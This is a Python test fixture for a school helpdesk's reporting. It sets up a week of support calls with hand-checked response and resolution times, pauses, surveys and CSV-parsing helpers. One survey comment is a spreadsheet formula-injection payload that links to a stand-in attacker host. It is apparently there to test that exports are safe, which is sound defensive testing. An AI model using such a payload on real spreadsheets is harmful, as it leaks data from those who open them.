"""A week of calls with hand-checked figures, for the report tests.

The week is Monday 16 to Friday 20 November 2026 (no bank holidays); the clock stands at
Monday 23 November 09:30. The desk is open 08:00-17:00, 9 working hours a day.
Calls are logged through the store, then moved on with direct updates (or, for the one
the desk fixes at first contact, the real workflow step), so every time is exact.

| call | category (level: respond/resolve h) | logged     | responded  | resolved   | respond h | resolve h |
| A    | Printer or copier (Normal 9/27)      | Mon 09:00  | Mon 10:00  | Mon 13:00  | 1   met   | 4   met   |
| B    | Printer or copier                    | Mon 09:00  | Mon 11:00  | Tue 09:00  | 2   met   | 9   met   |
| C    | Printer or copier, With Customer     | Tue 08:00  | Tue 14:00  | Fri 12:00  | 6   met   | 22  met   |
|      |   Wed 08:00 - Thu 08:00 (9 h left out; 31 h without the pause: breached)                  |
| D    | Email (High 4/9)                     | Wed 09:00  | Wed 15:00  | Thu 12:00  | 6 breached| 12 breached|
| E    | Email, still open                    | Thu 16:00  | —          | —          | 11.5 so far: both breached |
| F    | Password reset (High 4/9), desk      | Fri 10:00  | Fri 10:30  | Fri 10:30  | 0.5 met   | 0.5 met   |
| G    | Printer or copier, open, before range| Fri 13 Nov 09:00                                     |
| V    | Printer or copier, voided            | Tue 10:00 (left out everywhere)                      |

Responses measured: 0.5, 1, 2, 6, 6 -> median 2, 90th percentile (rank 5 of 5) 6, mean 3.1.
Resolutions measured: 0.5, 4, 9, 12, 22 -> median 9, 90th percentile 22, mean 9.5.
"""

from __future__ import annotations

from datetime import datetime

from kit import settings
from kit.auth import store as accounts
from kit.calls import workflow

MON, TUE, WED, THU, FRI = 16, 17, 18, 19, 20
RANGE = "date_from=2026-11-16&date_to=2026-11-20"


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute)


def stamp(moment: datetime) -> str:
    return moment.isoformat(sep=" ")


class School:
    """Ids of what the fixture made, by letter."""

    def __init__(self) -> None:
        self.calls: dict[str, int] = {}
        self.assets: dict[str, int] = {}
        self.articles: dict[str, int] = {}


def _log(make_call, clock, moment: datetime, category: str, summary: str, **fields) -> int:
    clock.set(moment)
    return make_call(summary=summary, category=category, **fields)


def _assets(db, school: School) -> None:
    room = (
        db["locations"]
        .insert({"site": "Main site", "building": "Old", "room": "Office", "teaching_space": 0})
        .last_pk
    )
    for tag in ("PRN-1", "PRN-2", "PRN-3"):
        school.assets[tag] = (
            db["equipment"]
            .insert(
                {
                    "asset_tag": tag,
                    "type": "Printer",
                    "make": "HP",
                    "model": "M507",
                    "location_id": room,
                    "serial": "",
                    "supplier": "HP",
                }
            )
            .last_pk
        )


def _account(db, users, username: str, role: str) -> int:
    """An account that never logs in here: no password hash to work out (0.6 s each)."""
    user_id = (
        db["users"]
        .insert(
            {
                "username": username,
                "name": username.title(),
                "email": f"{username}@school.example",
                "password_hash": "-",
                "roles": role,
                "active": 1,
                "session_version": 0,
                "created_at": "",
            }
        )
        .last_pk
    )
    users.ids[username] = user_id
    return user_id


def _finish(
    db, call_id: int, *, responded=None, resolved=None, closed=None, status=None, owner=None
) -> None:
    values = {
        "responded_at": stamp(responded) if responded else None,
        "resolved_at": stamp(resolved) if resolved else None,
        "closed_at": stamp(closed) if closed else None,
    }
    values["status"] = status or ("Closed" if closed else "Resolved" if resolved else "Assigned")
    if owner:
        values.update(assignee_id=owner, routed_at=db["calls"].get(call_id)["logged_at"])
    db["calls"].update(call_id, values)


def build(app, db, users, clock, make_call) -> School:
    school = School()
    _assets(db, school)
    settings.put(
        db,
        "terms",
        [{"name": "Autumn 2026", "start": "2026-09-03", "end": "2026-12-18"}],
        user_id=None,
        at="2026-09-01 00:00:00",
    )
    tech, tina, desk = (
        _account(db, users, name, role)
        for name, role in (("technician", "technician"), ("tina", "technician"), ("desk", "desk"))
    )
    printer, email, reset = "Printer or copier", "Email", "Password reset or locked account"
    c = school.calls
    c["G"] = _log(make_call, clock, at(13, 9), printer, "Old printer call")
    c["A"] = _log(
        make_call, clock, at(MON, 9), printer, "Printer A", equipment_id=school.assets["PRN-1"]
    )
    c["B"] = _log(
        make_call, clock, at(MON, 9), printer, "Printer B", equipment_id=school.assets["PRN-1"]
    )
    c["C"] = _log(
        make_call, clock, at(TUE, 8), printer, "Printer C", equipment_id=school.assets["PRN-2"]
    )
    c["V"] = _log(
        make_call, clock, at(TUE, 10), printer, "Voided call", equipment_id=school.assets["PRN-1"]
    )
    c["D"] = _log(make_call, clock, at(WED, 9), email, "Email D")
    c["E"] = _log(make_call, clock, at(THU, 16), email, "Email E")
    c["F"] = _log(make_call, clock, at(FRI, 10), reset, "Password F")
    _finish(db, c["A"], responded=at(MON, 10), resolved=at(MON, 13), owner=tech)
    _finish(db, c["B"], responded=at(MON, 11), resolved=at(TUE, 9), closed=at(TUE, 10), owner=tech)
    _finish(db, c["C"], responded=at(TUE, 14), resolved=at(FRI, 12), owner=tech)
    db["call_pauses"].insert(
        {"call_id": c["C"], "started_at": stamp(at(WED, 8)), "ended_at": stamp(at(THU, 8))}
    )
    _finish(db, c["D"], responded=at(WED, 15), resolved=at(THU, 12), owner=tina)
    _finish(db, c["E"], owner=tina)
    db["calls"].update(c["V"], {"voided": 1})
    # D was resolved by a desk account, but it had been passed on: not a first-contact fix.
    db["call_events"].insert(
        {
            "call_id": c["D"],
            "at": stamp(at(THU, 12)),
            "user_id": desk,
            "kind": "resolved",
            "changes": "{}",
            "text": "",
        }
    )
    desk_user = accounts.load_user(db, accounts.get_user_row(db, desk))
    with app.test_request_context():
        workflow.resolve(
            db,
            c["F"],
            summary="Reset the password",
            details="",
            closure_category="Fixed",
            customer_confirmed=True,
            confirmation_exception=None,
            user=desk_user,
            at=at(FRI, 10, 30),
        )
    _time_entries(db, c, tech, tina)
    _third_parties(db, c)
    _articles(db, school, desk)
    _surveys(db, c)
    clock.set(datetime(2026, 11, 23, 9, 30))
    return school


def _time_entries(db, c, tech, tina) -> None:
    for call, user, day, minutes in (
        ("A", tech, MON, 30),
        ("C", tech, WED, 90),
        ("D", tina, THU, 45),
        ("A", tech, 13, 20),
    ):
        db["time_entries"].insert(
            {
                "call_id": c[call],
                "user_id": user,
                "worked_on": f"2026-11-{day:02d}",
                "minutes": minutes,
                "note": "",
                "created_at": "2026-11-20 17:00:00",
            }
        )


def _third_parties(db, c) -> None:
    for call, kind, name, created, expected, ended in (
        ("C", "person", "Site team", at(TUE, 10), at(WED, 17), at(WED, 12)),
        ("D", "vendor", "Net Co", at(WED, 10), at(THU, 10), at(THU, 12)),
        ("E", "vendor", "Net Co", at(FRI, 9), at(FRI, 12), None),
    ):
        db["third_parties"].insert(
            {
                "call_id": c[call],
                "kind": kind,
                "name": name,
                "contact": "",
                "what_they_will_do": "fix",
                "expected_by": stamp(expected),
                "created_at": stamp(created),
                "ended_at": stamp(ended) if ended else None,
            }
        )


def _articles(db, school: School, desk: int) -> None:
    for key, title in (("X", "Clearing a paper jam"), ("Y", "Email stuck in outbox")):
        school.articles[key] = (
            db["articles"]
            .insert(
                {
                    "slug": title.lower().replace(" ", "-"),
                    "title": title,
                    "audience": "staff",
                    "status": "published",
                    "revision": 1,
                    "created_at": "2026-11-01 09:00:00",
                    "updated_at": "2026-11-01 09:00:00",
                }
            )
            .last_pk
        )
    for call, article in (("A", "X"), ("B", "X"), ("D", "Y")):
        db["call_articles"].insert(
            {
                "call_id": school.calls[call],
                "article_id": school.articles[article],
                "linked_by": desk,
                "linked_at": "2026-11-20 09:00:00",
                "solved": 1,
            }
        )


def _surveys(db, c) -> None:
    for call, score, fixed, time_ok, comment in (
        ("A", 5, 1, 1, '=HYPERLINK("http://evil.example/?"&A1)'),
        ("D", 2, 0, 0, "Took two days"),
    ):
        db["surveys"].insert(
            {
                "call_id": c[call],
                "satisfaction": score,
                "fixed": fixed,
                "time_ok": time_ok,
                "comment": comment,
                "submitted_at": "2026-11-20 15:00:00",
            }
        )


def csv_sections(text: str) -> dict[str, list[list[str]]]:
    """A report CSV split into its tables: {title: [header, row, ...]}."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    sections: dict[str, list[list[str]]] = {}
    current: list[list[str]] | None = None
    for index, row in enumerate(rows):
        if not row:
            current = None
        elif current is None and index + 1 < len(rows) and len(row) == 1:
            current = sections.setdefault(row[0], [])
        elif current is not None:
            current.append(row)
    return sections


def headline(text: str) -> dict[str, str]:
    """The headline figures at the top of a report CSV."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    found = {}
    for row in rows[1:]:
        if not row:
            break
        found[row[0]] = row[1]
    return found
